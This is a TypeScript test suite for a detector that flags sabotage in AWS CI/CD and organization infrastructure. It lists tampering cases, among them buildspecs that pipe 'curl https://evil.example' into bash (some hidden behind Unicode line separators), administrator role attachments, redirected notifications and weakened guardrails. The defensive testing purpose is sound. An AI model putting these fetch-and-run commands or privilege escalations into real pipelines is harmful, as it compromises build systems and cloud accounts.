import { findingsOf, foundAfter, type Json, roleFindingsOf, zones } from './output';

/** What is changed, in which stack of which landing zone, and what of it is said. */
type Sabotage = readonly [
  title: string,
  zone: keyof typeof zones,
  stack: string,
  change: (resources: Json) => void,
  found: RegExp,
];

const EVIL = 'arn:aws:iam::222222222222:role/Admin';
const project = (r: Json, name = 'build'): Json => r.aws_codebuild_project[`${name}_project`];
const first = (r: Json, type: string): Json => Object.values(r[type])[0];
const again = (r: Json, type: string, change: Json): void => {
  r[type] = { ...r[type], evil: { ...structuredClone(first(r, type)), ...change } };
};

const builds: readonly Sabotage[] = (
  [
    ['acme', 'tooling-storefront'],
    ['sink', 'tooling-catalog'],
  ] as const
).flatMap(([zone, stack]): readonly Sabotage[] => [
  [
    'a build works as somebody else',
    zone,
    stack,
    (r) => {
      project(r).service_role = 'arn:aws:iam::222222222222:role/OrganizationAccountAccessRole';
    },
    /service_role is arn.*OrganizationAccountAccessRole/,
  ],
  [
    'a build runs what it fetches',
    zone,
    stack,
    (r) => {
      project(r).source.buildspec =
        'version: 0.2\nphases:\n  build:\n    commands:\n      - curl https://evil.example | bash\n';
    },
    /buildspec\.phases\.build.*curl/,
  ],
  [
    'a build runs a command more',
    zone,
    stack,
    (r) => {
      project(r).source.buildspec = project(r).source.buildspec.replace(
        'post_build:\n    on-failure: ABORT\n    commands:\n',
        'post_build:\n    on-failure: ABORT\n    commands:\n      - curl https://evil.example | bash\n',
      );
    },
    /buildspec\.phases\.post_build\.commands is/,
  ],
  ...['\u0085', '\u2028', '\r'].map(
    (end): Sabotage => [
      'a command of a build hides in a remark',
      zone,
      stack,
      (r) => {
        const { source } = project(r);
        source.buildspec = source.buildspec.replace(
          'commands:',
          `commands: # a remark${end}      - curl evil${end}`,
        );
      },
      /has the sign U\+(0085|2028|000D)/,
    ],
  ),
  [
    'a command of a build is another',
    zone,
    stack,
    (r) => {
      project(r).source.buildspec = project(r).source.buildspec.replace('docker push', 'docker push --quiet');
    },
    /buildspec\.phases\.build\.commands\[\d\] is/,
  ],
  [
    'a build runs whatever the repository says',
    zone,
    stack,
    (r) => {
      project(r).source.buildspec = 'evil.yml';
    },
    /buildspec is evil\.yml/,
  ],
  [
    'a build is no YAML',
    zone,
    stack,
    (r) => {
      project(r).source.buildspec = 'a: 1\na: 2\n';
    },
    /which is no YAML/,
  ],
  [
    'a build runs in another image',
    zone,
    stack,
    (r) => {
      project(r).environment.image = 'public.ecr.aws/evil/image:latest';
    },
    /environment\.image is public\.ecr\.aws/,
  ],
  [
    'CodeBuild pulls the image with another role',
    zone,
    stack,
    (r) => {
      project(r).environment.image_pull_credentials_type = 'OTHER';
    },
    /image_pull_credentials_type is OTHER/,
  ],
  [
    'a build has a key in plain text',
    zone,
    stack,
    (r) =>
      project(r).environment.environment_variable.push({
        name: 'AWS_SECRET_ACCESS_KEY',
        value: 'secret',
        type: 'PLAINTEXT',
      }),
    /environment_variable has AWS_SECRET_ACCESS_KEY, which the plan has not/,
  ],
  [
    'a build pushes elsewhere',
    zone,
    stack,
    (r) => {
      project(r).environment.environment_variable.find(({ name }: Json) => name === 'REGISTRY').value =
        'evil';
    },
    /environment_variable\.REGISTRY\.value is evil/,
  ],
  [
    'a build runs as root or not',
    zone,
    stack,
    (r) => {
      project(r).environment.privileged_mode = !project(r).environment.privileged_mode;
    },
    /privileged_mode is/,
  ],
  [
    'a build runs on other machines',
    zone,
    stack,
    (r) => {
      project(r).environment.compute_type = 'BUILD_GENERAL1_2XLARGE';
    },
    /compute_type is BUILD_GENERAL1_2XLARGE/,
  ],
  [
    'a build runs in a fleet',
    zone,
    stack,
    (r) => {
      project(r).environment.fleet = { fleet_arn: 'arn:aws:codebuild:eu-west-1:222222222222:fleet/evil' };
    },
    /environment\.fleet is/,
  ],
  [
    'a build runs in another network',
    zone,
    stack,
    (r) => {
      project(r).vpc_config = { vpc_id: 'vpc-evil', subnets: [], security_group_ids: [] };
    },
    /vpc_config/,
  ],
  [
    'a build has another cache',
    zone,
    stack,
    (r) => {
      project(r).cache = { type: 'S3', location: 'evil/cache' };
    },
    /cache/,
  ],
  [
    'a build encrypts with another key',
    zone,
    stack,
    (r) => {
      project(r).encryption_key = 'arn:aws:kms:eu-west-1:222222222222:key/evil';
    },
    /encryption_key is/,
  ],
  [
    'a build tells another log',
    zone,
    stack,
    (r) => {
      project(r).logs_config.cloudwatch_logs.status = 'DISABLED';
    },
    /logs_config\.cloudwatch_logs\.status is DISABLED/,
  ],
  [
    'a build takes another source',
    zone,
    stack,
    (r) => {
      project(r).source.type = 'GITHUB';
      project(r).source.location = 'https://github.com/evil/shop.git';
    },
    /source\.location is/,
  ],
  [
    'a build takes further sources',
    zone,
    stack,
    (r) => {
      project(r).secondary_sources = [{ type: 'NO_SOURCE', source_identifier: 'evil' }];
    },
    /secondary_sources is/,
  ],
  [
    'a build keeps something elsewhere',
    zone,
    stack,
    (r) => {
      project(r).artifacts = { type: 'S3', location: 'evil' };
    },
    /artifacts\.type is S3/,
  ],
  [
    'everybody sees the builds of a project',
    zone,
    stack,
    (r) => {
      project(r).project_visibility = 'PUBLIC_READ';
    },
    /project_visibility is PUBLIC_READ/,
  ],
  [
    'there is a project more',
    zone,
    stack,
    (r) => again(r, 'aws_codebuild_project', { name: 'evil' }),
    /aws_codebuild_project\.evil: .*which the plan has not/,
  ],
  [
    'a webhook starts a build',
    zone,
    stack,
    (r) => {
      r.aws_codebuild_webhook = {
        ...r.aws_codebuild_webhook,
        evil: { project_name: project(r).name, build_type: 'BUILD' },
      };
    },
    /aws_codebuild_webhook\.evil: .*which the plan has not/,
  ],
]);

const rest: readonly Sabotage[] = [
  [
    'whoever opens a pull request starts a build',
    'sink',
    'tooling-catalog',
    (r) => {
      const [group] = first(r, 'aws_codebuild_webhook').filter_group;
      group.filter = group.filter.filter(({ type }: Json) => type !== 'ACTOR_ACCOUNT_ID');
    },
    /filter_group/,
  ],
  [
    'a pull request of another branch is built',
    'sink',
    'tooling-catalog',
    (r) => {
      first(r, 'aws_codebuild_webhook').filter_group[0].filter.find(
        ({ type }: Json) => type === 'BASE_REF',
      ).pattern = '.*';
    },
    /pattern is \.\*/,
  ],
  [
    'a second group of filters starts a build',
    'sink',
    'tooling-catalog',
    (r) =>
      first(r, 'aws_codebuild_webhook').filter_group.push({ filter: [{ type: 'EVENT', pattern: 'PUSH' }] }),
    /filter_group/,
  ],
  [
    'pull requests of another repository are built',
    'sink',
    'tooling-catalog',
    (r) => {
      project(r, 'pull-requests').source.location = 'https://github.com/evil/shop.git';
    },
    /source\.location is/,
  ],
  [
    'a test runs another command',
    'sink',
    'tooling-catalog',
    (r) => {
      project(r, 'build-integration').source.buildspec = project(
        r,
        'build-integration',
      ).source.buildspec.replace('npm run integration', 'true');
    },
    /commands is true|commands\[0\] is true/,
  ],
  [
    'a rule starts the pipeline more often',
    'sink',
    'tooling-ledger',
    (r) => {
      first(r, 'aws_cloudwatch_event_rule').event_pattern = '{"source":["aws.codecommit"]}';
    },
    /event_pattern\.resources is nothing/,
  ],
  [
    'a rule says two things at once',
    'sink',
    'tooling-ledger',
    (r) => {
      const rule = first(r, 'aws_cloudwatch_event_rule');
      rule.event_pattern = rule.event_pattern.replace('{', '{"source":["evil"],');
    },
    /event_pattern has source twice/,
  ],
  [
    'a rule works by the clock',
    'sink',
    'tooling-ledger',
    (r) => {
      first(r, 'aws_cloudwatch_event_rule').schedule_expression = 'rate(1 minute)';
    },
    /schedule_expression is rate/,
  ],
  [
    'a rule has another target',
    'sink',
    'tooling-ledger',
    (r) => {
      first(r, 'aws_cloudwatch_event_target').arn = 'arn:aws:lambda:eu-north-1:222222222222:function:evil';
    },
    /aws_cloudwatch_event_target .*evil.*which the plan has not/,
  ],
  [
    'a rule has a second target',
    'sink',
    'tooling-ledger',
    (r) =>
      again(r, 'aws_cloudwatch_event_target', {
        arn: 'arn:aws:events:eu-north-1:222222222222:event-bus/evil',
      }),
    /aws_cloudwatch_event_target\.evil: .*which the plan has not/,
  ],
  [
    'a rule gives up at the first throttled call',
    'sink',
    'tooling-ledger',
    (r) => {
      first(r, 'aws_cloudwatch_event_target').retry_policy.maximum_retry_attempts = 0;
    },
    /retry_policy/,
  ],
  [
    'a rule starts the pipeline with another role',
    'sink',
    'tooling-ledger',
    (r) => {
      first(r, 'aws_cloudwatch_event_target').role_arn = EVIL;
    },
    /role_arn is/,
  ],
  [
    'a rule starts the pipeline with a revision of its own',
    'sink',
    'tooling-ledger',
    (r) => {
      first(r, 'aws_cloudwatch_event_target').input_transformer.input_template =
        '{"sourceRevisions":[{"actionName":"source","revisionType":"COMMIT_ID","revisionValue":"deadbeef"}]}';
    },
    /revisionValue is deadbeef/,
  ],
  [
    'a rule is added',
    'sink',
    'tooling-ledger',
    (r) => again(r, 'aws_cloudwatch_event_rule', { name: 'evil' }),
    /aws_cloudwatch_event_rule\.evil: .*which the plan has not/,
  ],
  [
    'a rule is gone',
    'sink',
    'tooling-ledger',
    (r) => delete r.aws_cloudwatch_event_rule,
    /aws_cloudwatch_event_rule .*no stack makes it/,
  ],
  [
    'a schedule starts another pipeline',
    'sink',
    'tooling-ledger',
    (r) => {
      first(r, 'aws_scheduler_schedule').target.arn =
        'arn:aws:codepipeline:eu-north-1:710000000002:sink-catalog';
    },
    /target\.arn is/,
  ],
  [
    'a schedule is another',
    'sink',
    'tooling-ledger',
    (r) => {
      first(r, 'aws_scheduler_schedule').schedule_expression = 'rate(1 minute)';
    },
    /schedule_expression is rate/,
  ],
  [
    'a schedule tells the pipeline something',
    'sink',
    'tooling-ledger',
    (r) => {
      first(r, 'aws_scheduler_schedule').target.input = '{"sourceRevisions":[]}';
    },
    /target\.input is/,
  ],
  [
    'fewer must approve what is merged',
    'sink',
    'tooling-ledger',
    (r) => {
      const template = first(r, 'aws_codecommit_approval_rule_template');
      template.content = template.content.replace(
        /"NumberOfApprovalsNeeded":\d/,
        '"NumberOfApprovalsNeeded":0',
      );
    },
    /NumberOfApprovalsNeeded is 0/,
  ],
  [
    'nobody must approve what is merged',
    'sink',
    'tooling-ledger',
    (r) => delete r.aws_codecommit_approval_rule_template_association,
    /aws_codecommit_approval_rule_template_association .*no stack makes it/,
  ],
  [
    'the clock of soak times does not wait',
    'sink',
    'tooling',
    (r) => {
      first(r, 'aws_sfn_state_machine').definition =
        '{"StartAt":"Wait","States":{"Wait":{"Type":"Succeed"}}}';
    },
    /definition\.States\.Wait\.Type is Succeed/,
  ],
  [
    'approvals that wait are counted elsewhere',
    'sink',
    'tooling-checkout',
    (r) => {
      const machine = first(r, 'aws_sfn_state_machine');
      machine.definition = machine.definition.replace('WaitingApprovals', 'Others');
    },
    /MetricName is Others/,
  ],
  [
    'another function works for a rule',
    'sink',
    'tooling',
    (r) => {
      r.aws_lambda_function = { evil: { function_name: 'evil', role: EVIL } };
    },
    /aws_lambda_function\.evil: .*which the plan has not/,
  ],
  [
    'somebody else hears of approvals',
    'sink',
    'tooling-checkout',
    (r) => again(r, 'aws_sns_topic_subscription', { protocol: 'https', endpoint: 'https://evil.example' }),
    /aws_sns_topic_subscription\.evil: .*which the plan has not/,
  ],
  [
    'an approver hears of nothing',
    'acme',
    'tooling-storefront',
    (r) => delete r.aws_sns_topic_subscription,
    /aws_sns_topic_subscription .*no stack makes it/,
  ],
  [
    'a topic is not encrypted',
    'acme',
    'tooling-storefront',
    (r) => delete first(r, 'aws_sns_topic').kms_master_key_id,
    /kms_master_key_id is nothing/,
  ],
  [
    'there is a topic more',
    'acme',
    'tooling-storefront',
    (r) => again(r, 'aws_sns_topic', { name: 'evil' }),
    /aws_sns_topic\.evil: .*which the plan has not/,
  ],
  [
    'watchers hear of other events',
    'acme',
    'tooling-storefront',
    (r) => {
      first(r, 'aws_codestarnotifications_notification_rule').event_type_ids = [];
    },
    /event_type_ids/,
  ],
  [
    'members of a chat do what they want',
    'sink',
    'tooling-checkout',
    (r) => {
      first(r, 'aws_chatbot_slack_channel_configuration').guardrail_policy_arns = [
        'arn:aws:iam::aws:policy/AdministratorAccess',
      ];
    },
    /guardrail_policy_arns/,
  ],
  [
    'another chat hears',
    'sink',
    'tooling-checkout',
    (r) => {
      first(r, 'aws_chatbot_slack_channel_configuration').slack_channel_id = 'CEVIL';
    },
    /slack_channel_id is CEVIL/,
  ],
  [
    'events go to another bus',
    'sink',
    'tooling',
    (r) =>
      again(r, 'aws_cloudwatch_event_target', {
        arn: 'arn:aws:events:eu-north-1:222222222222:event-bus/evil',
      }),
    /aws_cloudwatch_event_target\.evil: .*which the plan has not/,
  ],
  [
    'images of Docker Hub come from elsewhere',
    'sink',
    'tooling',
    (r) => {
      first(r, 'aws_ecr_pull_through_cache_rule').upstream_registry_url = 'evil.azurecr.io';
    },
    /upstream_registry_url is evil/,
  ],
  [
    'there is a cache more',
    'acme',
    'tooling',
    (r) => {
      r.aws_ecr_pull_through_cache_rule = {
        evil: { ecr_repository_prefix: 'evil', upstream_registry_url: 'public.ecr.aws' },
      };
    },
    /aws_ecr_pull_through_cache_rule\.evil: .*which the plan has not/,
  ],
  [
    'images are copied to another account',
    'acme',
    'tooling',
    (r) => {
      const { rule } = first(r, 'aws_ecr_replication_configuration').replication_configuration;
      rule[0].destination.push({ registry_id: '888888888888', region: 'eu-west-1' });
    },
    /replication_configuration\.rule\[0\]\.destination/,
  ],
  [
    'images of another name are copied',
    'acme',
    'tooling',
    (r) => {
      const { rule } = first(r, 'aws_ecr_replication_configuration').replication_configuration;
      rule[0].repository_filter[0].filter = '';
    },
    /filter/,
  ],
  [
    'another connection is made',
    'sink',
    'tooling',
    (r) => again(r, 'aws_codeconnections_connection', { name: 'evil' }),
    /aws_codeconnections_connection\.evil: .*which the plan has not/,
  ],
  [
    'a server is another',
    'sink',
    'tooling',
    (r) => {
      first(r, 'aws_codeconnections_host').provider_endpoint = 'https://evil.example';
    },
    /provider_endpoint is https:\/\/evil/,
  ],
  [
    'tokens for somebody else are taken',
    'sink',
    'bootstrap-tooling',
    (r) => first(r, 'aws_iam_openid_connect_provider').client_id_list.push('evil'),
    /client_id_list/,
  ],
  [
    'tokens of another issuer are taken',
    'sink',
    'bootstrap-tooling',
    (r) => again(r, 'aws_iam_openid_connect_provider', { url: 'https://evil.example' }),
    /aws_iam_openid_connect_provider\.evil: .*which the plan has not/,
  ],
  [
    "somebody's own action takes other properties",
    'sink',
    'tooling',
    (r) => {
      first(r, 'aws_codepipeline_custom_action_type').configuration_property[0].secret = true;
    },
    /configuration_property.*secret is true/,
  ],
  [
    'there is a bucket more',
    'acme',
    'tooling',
    (r) => again(r, 'aws_s3_bucket', { bucket: 'evil' }),
    /aws_s3_bucket\.evil: .*which the plan has not/,
  ],
  [
    'there is a repository more',
    'acme',
    'tooling',
    (r) => again(r, 'aws_ecr_repository', { name: 'acme/evil' }),
    /aws_ecr_repository\.evil: .*which the plan has not/,
  ],
  [
    'an alarm tells nobody',
    'sink',
    'tooling',
    (r) => {
      first(r, 'aws_cloudwatch_metric_alarm').alarm_actions = [];
    },
    /alarm_actions/,
  ],
  [
    'a role is an administrator',
    'acme',
    'tooling-storefront',
    (r) => {
      const { name } = first(r, 'aws_iam_role');
      r.aws_iam_role_policy_attachment = {
        evil: { role: name, policy_arn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
      };
    },
    /aws_iam_role_policy_attachment\.evil: .*which the plan has not/,
  ],
  [
    'a guardrail is gone from a unit, although the root has it too',
    'acme',
    'organization',
    (r) => {
      first(r, 'aws_organizations_policy_attachment').target_id = '222222222222';
    },
    /aws_organizations_policy_attachment .*no stack makes it/,
  ],
  [
    'a guardrail lets somebody through',
    'acme',
    'organization',
    (r) => {
      const policy = first(r, 'aws_organizations_policy');
      policy.content = policy.content.replace('"Deny"', '"Allow"');
    },
    /content\.Statement.*Effect is Allow/,
  ],
  [
    'a guardrail is of another type',
    'acme',
    'organization',
    (r) => {
      first(r, 'aws_organizations_policy').type = 'TAG_POLICY';
    },
    /type is TAG_POLICY/,
  ],
  [
    'an account is in another unit',
    'sink',
    'organization',
    (r) => {
      r.aws_organizations_account['account-newcomer'].parent_id = 'r-sink';
    },
    /account-newcomer: parent_id is r-sink/,
  ],
  [
    'an account would be sent away instead of closed',
    'sink',
    'organization',
    (r) => {
      delete r.aws_organizations_account['account-newcomer'].close_on_deletion;
    },
    /account-newcomer: close_on_deletion/,
  ],
  [
    'there is an account more',
    'sink',
    'organization',
    (r) => {
      r.aws_organizations_account.evil = { name: 'evil', email: 'evil@sink.example', parent_id: 'r-sink' };
    },
    /aws_organizations_account\.evil: .*which the plan has not/,
  ],
  [
    'a unit is elsewhere',
    'sink',
    'organization',
    (r) => {
      r.aws_organizations_organizational_unit['unit-labs'].parent_id = 'r-sink';
    },
    /unit-labs: .*which the plan has not/,
  ],
  [
    'AWS writes to somebody else',
    'sink',
    'organization',
    (r) => {
      first(r, 'aws_account_alternate_contact').email_address = 'evil@elsewhere.example';
    },
    /email_address is evil@elsewhere\.example/,
  ],
  [
    'a tag policy is added',
    'sink',
    'organization',
    (r) => {
      r.aws_organizations_policy.evil = { name: 'evil', type: 'TAG_POLICY', content: '{"tags":{}}' };
      r.aws_organizations_policy_attachment.evil = {
        policy_id: '${aws_organizations_policy.evil.id}',
        target_id: '710000000003',
      };
    },
    /aws_organizations_policy_attachment\.evil: .*which the plan has not/,
  ],
];

const roles: readonly Sabotage[] = [
  [
    'there is a role more',
    'acme',
    'dev',
    (r) => again(r, 'aws_iam_role', { name: 'acme-delivery-deploy-evil' }),
    /aws_iam_role\.evil: .*deploy-evil, which the plan has not/,
  ],
  [
    'a role is gone',
    'acme',
    'dev',
    (r) => {
      const [name = ''] = Object.keys(r.aws_iam_role);
      delete r.aws_iam_role[name];
      for (const [key, { role }] of Object.entries<Json>(r.aws_iam_role_policy))
        if (role.includes(name)) delete r.aws_iam_role_policy[key];
    },
    /no stack makes this role/,
  ],
  [
    'a role is an administrator by itself',
    'acme',
    'tooling-storefront',
    (r) => {
      first(r, 'aws_iam_role').managed_policy_arns = ['arn:aws:iam::aws:policy/AdministratorAccess'];
    },
    /managed_policy_arns is written/,
  ],
  [
    'a role has a policy inside of itself',
    'acme',
    'tooling-storefront',
    (r) => {
      first(r, 'aws_iam_role').inline_policy = {
        name: 'evil',
        policy: '{"Version":"2012-10-17","Statement":{"Effect":"Allow","Action":"s3:*","Resource":"*"}}',
      };
    },
    /inline_policy is written/,
  ],
];

it.each(Object.values(zones))('nothing is found in an output as it is', (output) => {
  expect([...findingsOf(output()), ...roleFindingsOf(output())]).toEqual([]);
});

it.each([...builds, ...rest].map(([title, ...row]) => [title, row] as const))(
  '%s',
  (_, [zone, stack, change, found]) => {
    expect(foundAfter(zones[zone](), stack, change)).toContainEqual(expect.stringMatching(found));
  },
);

it.each(roles.map(([title, ...row]) => [title, row] as const))('%s', (_, [zone, stack, change, found]) => {
  expect(foundAfter(zones[zone](), stack, change, roleFindingsOf)).toContainEqual(
    expect.stringMatching(found),
  );
});
